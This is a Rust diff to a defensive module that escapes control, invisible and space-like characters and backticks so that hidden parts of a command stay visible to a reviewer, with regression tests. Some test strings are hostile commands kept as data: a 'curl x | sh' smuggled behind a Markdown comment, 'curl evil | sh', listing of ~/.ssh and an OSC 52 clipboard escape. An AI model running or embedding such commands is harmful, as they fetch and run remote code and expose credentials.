@@ -17,6 +17,7 @@
 //! | every other C0 control (U+0000–U+001F) and DEL (U+007F) | `\x` and two lowercase hex digits: `\x1b`, `\x00`, `\x7f` |
 //! | C1 controls (U+0080–U+009F; some terminals take U+009B as CSI) | `\u{…}`, lowercase hex: `\u{9b}` |
 //! | the invisible characters (below) | `\u{…}`: `\u{202e}`, `\u{feff}`, `\u{e0041}` |
+//! | the space-like characters (below) | `\u{…}`: `\u{a0}`, `\u{3000}`, `\u{2800}` |
 //! | anything else | itself |
 //!
 //! The invisible characters are Unicode's `Default_Ignorable_Code_Point` set
@@ -25,7 +26,14 @@
 //! the zero-width characters (U+200B–U+200D, U+2060–U+2064, U+FEFF), the soft hyphen,
 //! variation selectors, tag characters (U+E0000–U+E0FFF) and Hangul fillers; plus the line
 //! and paragraph separators (U+2028, U+2029) and the interlinear annotation characters
-//! (U+FFF9–U+FFFB), which can hide text between them.
+//! (U+FFF9–U+FFFB), which can hide text between them. The space-like characters are
+//! every space but U+0020 (U+00A0, U+1680, U+2000–U+200A, U+202F, U+205F, U+3000) and the
+//! blank braille pattern U+2800: each looks like a plain space or like nothing, so a
+//! command could hide its end past a run of them.
+//!
+//! [`visible_prefix_in_markup`] also shows a backtick as `\u{60}`, for text a client may
+//! render as Markdown: a backtick in a command would end the code span it is shown in, and
+//! what follows (an HTML comment) could hide the rest.
 //!
 //! ```
 //! use dsh_core::visible::visible;
@@ -43,9 +51,8 @@
 //!
 //! # Limits
 //! - Only characters are made visible; the words are still the model's, and may lie.
-//!   Lookalike letters (Cyrillic `а` for Latin `a`), unusual spaces (U+00A0, U+3000) and
-//!   combining marks pass through: they can mislead a reader, but cannot move the cursor,
-//!   erase or reorder text.
+//!   Lookalike letters (Cyrillic `а` for Latin `a`) and combining marks pass through: they
+//!   can mislead a reader, but cannot move the cursor, erase, hide or reorder text.
 //! - Widths are not computed: [`visible_prefix`] counts characters, and a wide character
 //!   takes two columns.
 
@@ -57,6 +64,26 @@ pub fn visible(text: &str) -> String {
     let mut out = String::with_capacity(text.len());
     for c in text.chars() {
         push_visible(&mut out, c);
+    }
+    out
+}
+
+/// `text` for a terminal that shows a command's output: line breaks and tabs as they are,
+/// every other control and invisible or space-like character as [`visible`] shows it (a
+/// backslash is left single: output is read, not parsed back). A command's OSC 52 (which
+/// sets the clipboard), screen clears and cursor moves are shown, never sent.
+///
+/// ```
+/// use dsh_core::visible::for_terminal;
+/// assert_eq!(for_terminal("a\tb\n\x1b]52;c;eA==\x07"), "a\tb\n\\x1b]52;c;eA==\\x07");
+/// ```
+pub fn for_terminal(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '\n' | '\t' | '\\' => out.push(c),
+            c => push_visible(&mut out, c),
+        }
     }
     out
 }
@@ -73,12 +100,31 @@ pub fn visible(text: &str) -> String {
 /// assert_eq!(visible_prefix("abc", 9), ("abc".to_owned(), 3));
 /// ```
 pub fn visible_prefix(text: &str, max_chars: usize) -> (String, usize) {
+    prefix(text, max_chars, false)
+}
+
+/// [`visible_prefix`], with every backtick shown as `\u{60}` too: for text a client may
+/// render as Markdown (see the [module docs](self)).
+///
+/// ```
+/// use dsh_core::visible::visible_prefix_in_markup;
+/// assert_eq!(visible_prefix_in_markup("a`b", 9).0, r"a\u{60}b");
+/// ```
+pub fn visible_prefix_in_markup(text: &str, max_chars: usize) -> (String, usize) {
+    prefix(text, max_chars, true)
+}
+
+fn prefix(text: &str, max_chars: usize, markup: bool) -> (String, usize) {
     let mut out = String::with_capacity(text.len().min(max_chars));
     let mut used = 0usize;
     let mut one = String::new();
     for (at, c) in text.char_indices() {
         one.clear();
-        push_visible(&mut one, c);
+        if markup && c == '`' {
+            one.push_str("\\u{60}");
+        } else {
+            push_visible(&mut one, c);
+        }
         let n = one.chars().count();
         if used + n > max_chars {
             return (out, at);
@@ -98,9 +144,17 @@ fn push_visible(out: &mut String, c: char) {
         '\t' => out.write_str("\\t"),
         '\0'..='\x1f' | '\x7f' => write!(out, "\\x{:02x}", u32::from(c)),
         '\u{80}'..='\u{9f}' => write!(out, "\\u{{{:x}}}", u32::from(c)),
-        c if is_invisible(c) => write!(out, "\\u{{{:x}}}", u32::from(c)),
+        c if is_invisible(c) || is_space_like(c) => write!(out, "\\u{{{:x}}}", u32::from(c)),
         c => out.write_char(c),
     };
+}
+
+/// Every space but U+0020, and the blank braille pattern (see the [module docs](self)).
+fn is_space_like(c: char) -> bool {
+    matches!(
+        u32::from(c),
+        0xa0 | 0x1680 | 0x2000..=0x200a | 0x202f | 0x205f | 0x3000 | 0x2800
+    )
 }
 
 /// `Default_Ignorable_Code_Point` (Unicode 15.1 DerivedCoreProperties.txt; a later
@@ -204,12 +258,34 @@ mod tests {
     }
 
     #[test]
+    fn space_like_characters_are_shown_as_escapes() {
+        // Regression: issue 23: a command hid its end past a run of these.
+        for c in [
+            '\u{a0}', '\u{2007}', '\u{3000}', '\u{2800}', '\u{202f}', '\u{1680}',
+        ] {
+            let out = visible(&format!("ls{c}rm"));
+            assert_eq!(out, format!("ls\\u{{{:x}}}rm", u32::from(c)));
+        }
+        assert_eq!(visible("a b"), "a b");
+    }
+
+    #[test]
+    fn a_backtick_is_an_escape_only_in_markup() {
+        // Regression: issue 23: a Markdown client hid the middle of
+        // ``cmd` <!-- `…` -->``.
+        let t = "make` <!-- `; curl x | sh; ` -->";
+        let (m, n) = visible_prefix_in_markup(t, 200);
+        assert_eq!(n, t.len());
+        assert!(!m.contains('`'), "{m}");
+        assert_eq!(visible_prefix(t, 200).0, t);
+    }
+
+    #[test]
     fn printable_text_is_unchanged() {
         for s in [
             "curl evil | sh",
             "echo \"$HOME\" > 'a b'; ls -la ~/.ssh",
             "héllo wörld — €5, 日本語, Ωμέγα, emoji 😀",
-            "\u{a0}\u{3000}",
         ] {
             assert_eq!(visible(s), s);
         }
